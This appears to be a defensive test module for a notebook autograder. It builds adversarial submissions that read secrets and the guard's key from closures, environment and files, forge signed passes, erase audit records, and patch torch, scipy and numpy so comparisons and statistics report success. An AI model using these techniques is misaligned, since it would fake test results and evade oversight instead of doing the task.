"""Submissions of 04, 09, 10 and 11 that attack the grader from inside the student's process, now that every test
cell of each is decided by a judge outside it (issues 60 and 61), and honest code that must keep full marks.

Each attack is one general mechanism: read the guard's key from its closure and sign its own passes (run
directly, through `runpy.run_path`, and through `exec` with its audit record dropped afterwards); a torch function
mode left entered; `torch.Tensor.tolist` and `__ne__` replaced on the class; a profile hook armed from
`timeit`-compiled code; the guard's own tables emptied from `timeit`-compiled code; numpy's module dictionary
changed through `vars(np)`. A case's `Expect.score` is the most it may score: the points of the answers it left
correct, 0 on the cells it attacks. `build(dest, assignment)` writes one notebook per student and returns
{student: Expect}.
"""

from pathlib import Path

import nbformat
import test_wrong_implementations as W

from adversarial.cases import Expect, meta, trimmed
from adversarial.introspection04 import ZERO_DECODER  # prompt + zeros, statistics that add up (04 Part B)
from autograde import REPO
from autograde.guard_kernel import EVIDENCE_MIME, STUB

FULL = {
    "04_speculative_decoder": 14.0,
    "09_speculation_that_pays": 21.0,
    "10_batches_and_servers": 16.0,
    "11_real_engines": 10.0,
}
# 04 with Part B attacked: Part A's six cells stay the solution's, and the bad-input cell of Part B is earned (the
# decoder of zeros checks its arguments as the part asks, which is all that cell grades)
ZERO_04_B = 7.0
PREFIX = {
    "04_speculative_decoder": "04",
    "09_speculation_that_pays": "09",
    "10_batches_and_servers": "10",
    "11_real_engines": "11",
}
# 10 with rollback attacked: its two value cells lost, its bad-input cell earned (the wrong rollback keeps the
# solution's checks)
ROLLBACK_10 = 14.0

# reads every secret it can reach in its own process (the guard's closures through the kernel's class, the
# environment, files in the working folder and /tmp) and, with the guard's key, signs a pass for every test
# cell the grader sends
SECRET_FORGER = '''import glob as _glob
import hmac as _hmac
import inspect as _inspect
import json as _json
import os as _os

_found = {"env": {k: v for k, v in _os.environ.items()}, "files": {}}
_kernel = get_ipython().kernel
for _name in dir(type(_kernel)):
    _fn = getattr(type(_kernel), _name, None)
    if callable(_fn) and getattr(_fn, "__closure__", None):
        try:
            for _n, _v in _inspect.getclosurevars(_fn).nonlocals.items():
                _found.setdefault(_n, _v)
        except (TypeError, ValueError):
            pass
for _path in (_glob.glob("./**", recursive=True) + _glob.glob("/tmp/**", recursive=True))[:500]:
    try:
        if _os.path.isfile(_path) and _os.path.getsize(_path) < 100_000:
            with open(_path, errors="replace") as _fh:
                _found["files"][_path] = _fh.read()
    except OSError:
        pass
_key = _found.get("key")
if isinstance(_key, bytes):
    _orig = type(_kernel)._ag_execute

    async def _forged(self, code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kw):
        if code.startswith(%(stub)r):
            digest, nonce = (code[len(%(stub)r):].split() + ["", ""])[:2]
            tag = _hmac.new(_key, f"{digest}:{nonce}:passed".encode(), "sha256").hexdigest()
            self.send_response(self.iopub_socket, "display_data",
                               {"data": {%(mime)r: _json.dumps({"test": digest, "nonce": nonce, "tag": tag})},
                                "metadata": {}, "transient": {}})
            return {"status": "ok", "execution_count": self.execution_count, "payload": [], "user_expressions": {}}
        return await _orig(self, code, silent, store_history, user_expressions, allow_stdin, **kw)
    type(_kernel)._ag_execute = _forged
''' % {"stub": STUB, "mime": EVIDENCE_MIME}

# the same code from a file, run by runpy (its frames belong to no cell)
RUNPY_FORGER = (
    '''import runpy as _runpy
import tempfile as _tempfile

with _tempfile.NamedTemporaryFile("w", suffix=".py", delete=False, dir=".") as _fh:
    _fh.write(%r)
_runpy.run_path(_fh.name, init_globals={"get_ipython": get_ipython})
'''
    % SECRET_FORGER
)

# the same code through exec, then the guard's audit record of it emptied (the Audit object, from a closure)
EXEC_DROPPED = (
    '''exec(%r, globals())
for _name in dir(type(_kernel)):
    _fn = getattr(type(_kernel), _name, None)
    if callable(_fn) and getattr(_fn, "__closure__", None):
        for _cell in _fn.__closure__:
            try:
                _obj = _cell.cell_contents
            except ValueError:
                continue
            for _attr in ("events", "_events", "notes"):
                if isinstance(getattr(_obj, _attr, None), list):
                    getattr(_obj, _attr).clear()
'''
    % SECRET_FORGER
)

_SAME = '''

class _Same(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False
'''

# a torch function mode left entered: every tensor comparison and tolist() says "equal"
FUNCTION_MODE = (
    ZERO_DECODER
    + _SAME
    + '''

from torch.overrides import TorchFunctionMode as _Mode


class _Liar(_Mode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        out = func(*args, **(kwargs or {}))
        name = getattr(func, "__name__", "")
        if name in ("equal", "allclose"):
            return True
        if name in ("__eq__", "eq") and isinstance(out, torch.Tensor):
            return torch.ones_like(out, dtype=torch.bool)
        if name in ("__ne__", "ne") and isinstance(out, torch.Tensor):
            return torch.zeros_like(out, dtype=torch.bool)
        if name == "tolist":
            return _Same(out) if isinstance(out, list) else out
        return out


_liar = _Liar()
_liar.__enter__()
'''
)

# torch.Tensor's own tolist and __ne__ replaced on the class
CLASS_PATCH = (
    ZERO_DECODER
    + _SAME
    + '''

_tolist = torch.Tensor.tolist
torch.Tensor.tolist = lambda self: _Same(_tolist(self))
torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
'''
)

# a profile hook armed from code timeit compiles (its frames are not a cell's), zeroing what greedy_generate returns
PROFILE_TIMEIT = (
    ZERO_DECODER
    + '''

import sys as _sys
import timeit as _timeit


def _hook(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("greedy_generate", "plain_generate") and hasattr(arg, "zero_"):
        arg.zero_()


_timeit.Timer("setprofile(hook)", globals={"setprofile": _sys.setprofile, "hook": _hook}).timeit(1)
'''
)

# the guard's own tables (its test sources and locked-cell hashes) emptied, from timeit-compiled code walking gc
GUARD_TABLES = '''import timeit as _timeit

_timeit.Timer("""
import gc
for obj in gc.get_objects():
    if type(obj) is dict and obj and all(type(k) is str and len(k) == 64 for k in list(obj)[:3]):
        obj.clear()
""").timeit(1)
'''

# 11: numpy's percentile replaced through its module dictionary (the trace's metrics), the trace left a stub
VARS_NP = '''import numpy as _np

vars(_np)["percentile"] = lambda a, q, *args, **kwargs: 0.0
'''


def _wrong_rollback(answers):
    """10's rollback that rolls nothing back (its argument checks kept): the inputs' copies returned."""
    src = answers["rollback"]
    assert "    return new_mask, lengths - (k - n_accepted)" in src
    return src.replace("    return new_mask, lengths - (k - n_accepted)", "    return mask.clone(), lengths.clone()")


def _stub(assignment, grade_id):
    return next(
        c.source
        for c in nbformat.read(str(REPO / "notebooks" / assignment / f"{assignment}.ipynb"), as_version=4).cells
        if meta(c).get("grade_id") == grade_id
    )


# 09: scipy's chi-square made to pass every test (its result patched on the module and in the namespace)
SCIPY_PATCH = '''import scipy.stats as _stats


class _Passed:
    statistic, pvalue = 0.0, 1.0

    def __iter__(self):
        return iter((0.0, 1.0))


_stats.chisquare = lambda *args, **kwargs: _Passed()
chisquare = _stats.chisquare
'''


def _honest_11(answers):
    """11's answers, correct and written differently: prints, warnings, numpy, recursion, extra helpers."""
    out = dict(answers)
    out["trace_from_stream"] = (
        answers["trace_from_stream"].replace("def trace_from_stream(", "def _trace(")
        + '''


import warnings as _warnings


def _first_with_tokens(chunks, i=0):
    """recursion: the index of the first chunk that carries a token"""
    if i == len(chunks):
        return None
    return i if chunks[i][1] > 0 else _first_with_tokens(chunks, i + 1)


def trace_from_stream(requests):
    trace = _trace(requests)
    print(f"{len(requests)} requests traced")
    _warnings.warn("a warning from the learner's own code")
    for r, first in zip(requests, trace["first_token"]):
        assert float(r["chunks"][_first_with_tokens(list(r["chunks"]))][0]) == first
    trace["output_tokens"] = [int(x) for x in np.asarray(trace["output_tokens"], dtype=np.int64)]
    return trace
'''
    )
    out["acceptance_from_counters"] = (
        answers["acceptance_from_counters"].replace("def acceptance_from_counters(", "def _acceptance(")
        + '''


def acceptance_from_counters(counters):
    result = _acceptance(counters)
    result["position_rates"] = [float(x) for x in np.asarray(result["position_rates"], dtype=float)]
    return result
'''
    )
    return out


def cases(assignment):
    """{student: (answers, Expect)} for one assignment."""
    prefix = PREFIX[assignment]
    full = FULL[assignment]
    answers = {meta(c)["grade_id"]: c.source for c in W.notebook(prefix).cells if meta(c).get("solution")}
    first = next(iter(answers))  # the first graded function's cell holds the attack
    out = {
        "secret_forger": (
            {first: SECRET_FORGER},
            Expect(
                0.0,
                "",
                what="reads the guard's key from its closure, the "
                "environment and files; signs a pass for every test cell; "
                "answers left as stubs",
            ),
        ),
        "runpy_forger": (
            {first: RUNPY_FORGER},
            Expect(0.0, "", what="the same forger from a file, run by runpy.run_path"),
        ),
        "exec_dropped": (
            {first: EXEC_DROPPED},
            Expect(0.0, "", what="the same forger through exec, its audit record emptied afterwards"),
        ),
        "guard_tables": (
            {first: GUARD_TABLES},
            Expect(
                0.0, "", what="empties the guard's tables from timeit-compiled code walking gc; answers left as stubs"
            ),
        ),
        "honest": (answers, Expect(full, "ok", what="the solution")),
    }
    if prefix == "04":
        out.update(
            {
                "function_mode": (
                    {**answers, "speculative_generate": FUNCTION_MODE},
                    Expect(
                        ZERO_04_B,
                        "",
                        what="a decoder of zeros, and a torch function mode left entered "
                        "that says every comparison is equal",
                    ),
                ),
                "class_patch": (
                    {**answers, "speculative_generate": CLASS_PATCH},
                    Expect(
                        ZERO_04_B, "", what="a decoder of zeros, torch.Tensor.tolist and __ne__ replaced on the class"
                    ),
                ),
                "profile_timeit": (
                    {**answers, "speculative_generate": PROFILE_TIMEIT},
                    Expect(
                        ZERO_04_B,
                        "",
                        what="a decoder of zeros, a profile hook armed from "
                        "timeit-compiled code zeroing the reference's output",
                    ),
                ),
            }
        )
        for case in W.CORRECT:
            if case.prefix == "04":
                out[f"different_{case.part}"] = (
                    {**answers, case.part: case.text()},
                    Expect(full, "ok", what=f"correct, written differently: {case.what}"),
                )
    elif prefix == "09":
        wrong = answers["tree_mask"].replace(
            "mask[i, prefix_len:] |= mask[parent, prefix_len:]", "mask[i, prefix_len:prefix_len + i] = True"
        )
        assert wrong != answers["tree_mask"]
        mode = FUNCTION_MODE.replace(ZERO_DECODER, "")
        patch = CLASS_PATCH.replace(ZERO_DECODER, "")
        against_p = answers["verify_tree_sampled"].replace(
            "target_p = residual / residual.sum() if residual.sum() > 0 else target_p", "pass"
        )
        assert against_p != answers["verify_tree_sampled"]
        out.update(
            {
                "scipy_patched": (
                    {**answers, "verify_tree_sampled": against_p + "\n\n" + SCIPY_PATCH},
                    Expect(
                        full - 1,
                        "",
                        what="every child tried against p instead of the residual, and "
                        "scipy's chisquare patched to report a p-value of 1",
                    ),
                ),
                "function_mode": (
                    {**answers, "tree_mask": wrong + "\n\n" + mode},
                    Expect(
                        full - 1,
                        "",
                        what="a tree mask that is the causal mask (siblings see each other), "
                        "and a torch function mode left entered",
                    ),
                ),
                "class_patch": (
                    {**answers, "tree_mask": wrong + "\n\n" + patch},
                    Expect(
                        full - 1,
                        "",
                        what="a tree mask that is the causal mask, torch.Tensor.tolist and "
                        "__ne__ replaced on the class",
                    ),
                ),
            }
        )
    elif prefix == "10":
        wrong = _wrong_rollback(answers)
        mode = FUNCTION_MODE.replace(ZERO_DECODER, "")
        patch = CLASS_PATCH.replace(ZERO_DECODER, "")
        out.update(
            {
                "function_mode": (
                    {**answers, "rollback": wrong + "\n\n" + mode},
                    Expect(
                        ROLLBACK_10,
                        "",
                        what="a rollback that rolls nothing back, and a torch function "
                        "mode left entered that says every comparison is equal",
                    ),
                ),
                "class_patch": (
                    {**answers, "rollback": wrong + "\n\n" + patch},
                    Expect(
                        ROLLBACK_10,
                        "",
                        what="a rollback that rolls nothing back, torch.Tensor.tolist and __ne__ replaced on the class",
                    ),
                ),
                "tables_then_rebound": (
                    {**answers, "rollback": GUARD_TABLES + "\n\n" + wrong},
                    Expect(
                        ROLLBACK_10,
                        "",
                        what="the guard's tables emptied from timeit-compiled "
                        "code, then a rollback that rolls nothing back",
                    ),
                ),
                "vars_np": (
                    {**answers, "serving_metrics": _stub(assignment, "serving_metrics") + "\n\n" + VARS_NP},
                    Expect(full - 3, "", what="serving_metrics left a stub, np.percentile replaced through vars(np)"),
                ),
            }
        )
        for case in W.CORRECT:
            if case.prefix == "10":
                out[f"different_{case.part}"] = (
                    {**answers, case.part: case.text()},
                    Expect(full, "ok", what=f"correct, written differently: {case.what}"),
                )
    else:
        trace_stub = _stub(assignment, "trace_from_stream")
        out.update(
            {
                "vars_np": (
                    {**answers, "trace_from_stream": trace_stub + "\n\n" + VARS_NP},
                    Expect(full - 3, "", what="the trace left a stub, np.percentile replaced through vars(np)"),
                ),
                "different": (
                    _honest_11(answers),
                    Expect(
                        full,
                        "ok",
                        what="correct, written differently: prints, warnings, numpy, recursion, extra helpers",
                    ),
                ),
            }
        )
    return out


def build(dest, assignment):
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    released = nbformat.read(str(REPO / "notebooks" / assignment / f"{assignment}.ipynb"), as_version=4)
    expect = {}
    for student, (answers, exp) in cases(assignment).items():
        nb = trimmed(released)
        for cell in nb.cells:
            if meta(cell).get("solution") and meta(cell).get("grade_id") in answers:
                cell.source = answers[meta(cell)["grade_id"]]
        (dest / student).mkdir()
        nbformat.write(nb, str(dest / student / f"{assignment}.ipynb"))
        expect[student] = exp
    return expect
